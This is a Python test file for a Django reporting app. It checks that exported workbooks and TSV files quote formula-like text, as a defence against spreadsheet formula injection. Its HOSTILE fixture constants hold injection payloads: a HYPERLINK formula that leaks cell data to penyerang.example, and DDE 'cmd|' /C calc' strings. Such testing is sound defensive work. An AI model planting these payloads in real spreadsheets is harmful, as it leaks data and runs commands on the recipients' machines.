"""No export holds a formula the app did not write (issue 15, finding 3: formula injection).

A kecamatan whose names and texts begin with ``= + - @``, a tab or a carriage return downloads
every spreadsheet and TSV the app produces: the report workbook (draft and approved copy), the
realisasi template, the DPA template and the evidence zip's ``indeks.tsv``. Each workbook is opened
with openpyxl and read as raw XML: no cell is a formula, every such text is a string cell with
``quotePrefix`` (shown unchanged, stays text when edited); every TSV field that would start a
formula begins with a single quote. The names also carry ``$_$`` (finding 6: matplotlib mathtext).
"""

from __future__ import annotations

import html
import io
import os
import re
import shutil
import subprocess
import zipfile

import openpyxl
import pytest
from django.urls import reverse

from apps.budgets.models import DpaLine
from apps.core.spreadsheets import FORMULA_TRIGGERS, looks_like_formula, tsv_field, workbook_bytes
from apps.planning.models import Indicator, Kegiatan, Program, Sasaran, SubKegiatan, Tujuan
from apps.realisations.models import Evidence
from apps.reports import workflow
from apps.reports.models import Report, ReportSnapshot
from tests.access_objects import build
from tests.test_access_matrix import body

LEAK = '=HYPERLINK("http://penyerang.example/?leak="&A1&"$_$","Klik")'
HOSTILE = {
    "iku": LEAK,
    "laporan": "+cmd|' /C calc'!A0",
    "tujuan": "-2+3+cmd|' /C calc'!A0",
    "sasaran": "@SUM(1+1)*cmd|' /C calc'!A0",
    "program": "\t=1+1 Program",
    "kegiatan": "\r=1+1 Kegiatan",
    "sub": "=1+1 Sub kegiatan",
    "evidence": "=2+2 keterangan",
}


@pytest.fixture
def hostile(world, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    kec = build("own", world.own, operator=world.operator, admin=world.admin)
    Indicator.objects.filter(pk=kec.akip.pk).update(name=HOSTILE["iku"])
    Indicator.objects.filter(organisation=world.own, name="Jumlah laporan kinerja").update(name=HOSTILE["laporan"])
    Tujuan.objects.filter(pk=kec.tujuan.pk).update(text=HOSTILE["tujuan"])
    Sasaran.objects.filter(pk=kec.sasaran.pk).update(text=HOSTILE["sasaran"])
    Program.objects.filter(renstra=kec.renstra).update(name=HOSTILE["program"])
    Kegiatan.objects.filter(renstra=kec.renstra).update(name=HOSTILE["kegiatan"])
    SubKegiatan.objects.filter(renstra=kec.renstra).update(name=HOSTILE["sub"])
    DpaLine.objects.filter(version=kec.version).update(
        name=HOSTILE["sub"], program_name=HOSTILE["program"], kegiatan_name=HOSTILE["kegiatan"]
    )
    Evidence.objects.filter(realisation=kec.realisation).update(description=HOSTILE["evidence"])
    return kec


def _formulas_in(xlsx: bytes) -> list[str]:
    """Formulas in the raw sheet XML (``<f>``) and cells openpyxl reads as formulas."""
    found = []
    with zipfile.ZipFile(io.BytesIO(xlsx)) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/") and re.search(rb"<(\w+:)?f[ >/]", zf.read(name)):
                found.append(name)
    wb = openpyxl.load_workbook(io.BytesIO(xlsx))
    found += [f"{ws.title}!{c.coordinate}" for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]
    return found


def _texts(xlsx: bytes) -> dict[str, object]:
    """Every text cell that would start a formula, with its quotePrefix."""
    wb = openpyxl.load_workbook(io.BytesIO(xlsx))
    return {f"{ws.title}!{c.coordinate}": c for ws in wb.worksheets for row in ws.iter_rows() for c in row if looks_like_formula(c.value)}


def _check_workbook(xlsx: bytes, what: str, expected: set[str]) -> set[str]:
    assert xlsx.startswith(b"PK"), what
    assert _formulas_in(xlsx) == [], f"{what}: formulas the app did not write"
    cells = _texts(xlsx)
    unquoted = [k for k, c in cells.items() if not c.quotePrefix or c.data_type != "s"]
    assert unquoted == [], f"{what}: text that a spreadsheet would read as a formula: {unquoted}"
    values = {c.value for c in cells.values()}
    missing = {v for v in expected if v not in values}
    assert not missing, f"{what}: the hostile text should be shown unchanged: {missing}"
    return {k.split("!")[0] for k, c in cells.items() if c.value in HOSTILE.values()}


def test_every_export_keeps_formula_like_text_as_text(client, world, hostile):
    client.force_login(world.operator)
    draft = Report.objects.create(organisation=world.own, year=2024, period="tw4")
    response = client.get(reverse("reports:download", args=[draft.pk, "xlsx"]))
    assert response.status_code == 200
    sheets = _check_workbook(body(response), "draft report workbook", {LEAK, HOSTILE["laporan"], HOSTILE["sasaran"]})
    assert len(sheets) >= 8, f"the hostile names should be on eight sheets, found on {sorted(sheets)}"

    response = client.get(reverse("budgets:realisasi_template", args=[world.own.pk, 2024]))
    assert response.status_code == 200
    _check_workbook(body(response), "realisasi template", {HOSTILE["sub"]})

    response = client.get(reverse("budgets:dpa_template"))
    assert response.status_code == 200
    _check_workbook(body(response), "DPA template", set())

    response = client.get(reverse("reports:evidence_bundle", args=[hostile.report.pk]))
    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(body(response))) as zf:
        index = zf.read("indeks.tsv").decode("utf-8")
    lines = index.rstrip("\n").split("\n")
    assert len(lines) == 3, lines  # header, the link and the file: no row added by a line break
    for line in lines:
        fields = line.split("\t")
        assert len(fields) == 5, fields
        assert not any(f.startswith(FORMULA_TRIGGERS) for f in fields), fields
    assert f"\t'{HOSTILE['evidence']}\t" in index and f"'{LEAK}\t" in index

    # The approved copy: submitted by the operator, approved by the camat (stored XLSX).
    workflow.report_submit(report=hostile.report, user=world.operator)
    workflow.report_approve(report=hostile.report, user=world.camat)
    snapshot = ReportSnapshot.objects.get(report=hostile.report)
    _check_workbook(bytes(snapshot.xlsx), "approved workbook (stored)", {LEAK})
    response = client.get(reverse("reports:download", args=[hostile.report.pk, "xlsx"]))
    assert response.status_code == 200
    _check_workbook(body(response), "approved workbook (download)", {LEAK})


def test_tsv_field_quotes_formula_starts_and_removes_separators():
    assert tsv_field("=1+1") == "'=1+1"
    assert tsv_field("+1") == "'+1" and tsv_field("-1") == "'-1" and tsv_field("@A1") == "'@A1"
    assert tsv_field("\t=1+1") == "' =1+1" and tsv_field("\r=1+1") == "' =1+1"
    assert tsv_field("a\tb\nc\r\nd") == "a b c d"
    assert tsv_field("Nilai 1-2") == "Nilai 1-2" and tsv_field(None) == ""


def test_workbook_bytes_keeps_formulas_the_app_writes_itself():
    wb = openpyxl.Workbook()
    ws = wb.active
    ws["A1"] = "=1+1"
    ws["A2"] = "=SUM(B1:B2)"
    data = workbook_bytes(wb, formulas=[ws["A2"]])
    back = openpyxl.load_workbook(io.BytesIO(data)).active
    assert (back["A1"].data_type, back["A1"].quotePrefix, back["A1"].value) == ("s", True, "=1+1")
    assert (back["A2"].data_type, back["A2"].value) == ("f", "=SUM(B1:B2)")


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice (libreoffice-calc-nogui) is not installed")
def test_libreoffice_reads_the_cells_as_text(tmp_path):
    """LibreOffice itself: the same texts written by plain openpyxl become formulas (the check is
    live), written through workbook_bytes they are strings shown unchanged."""

    def workbook(safe: bool) -> bytes:
        wb = openpyxl.Workbook()
        for value in HOSTILE.values():
            wb.active.append([value])
        if safe:
            return workbook_bytes(wb)
        buf = io.BytesIO()
        wb.save(buf)
        return buf.getvalue()

    for name, safe in (("plain", False), ("safe", True)):
        (tmp_path / f"{name}.xlsx").write_bytes(workbook(safe))
    subprocess.run(
        ["soffice", "--headless", "--convert-to", "fods", "--outdir", str(tmp_path), str(tmp_path / "plain.xlsx"), str(tmp_path / "safe.xlsx")],
        env={**os.environ, "HOME": str(tmp_path)}, capture_output=True, check=True, timeout=180,
    )  # fmt: skip
    assert "table:formula=" in (tmp_path / "plain.fods").read_text()
    safe = (tmp_path / "safe.fods").read_text()
    assert "table:formula=" not in safe
    assert html.escape(LEAK, quote=False) in safe.replace("&quot;", '"').replace("&apos;", "'")
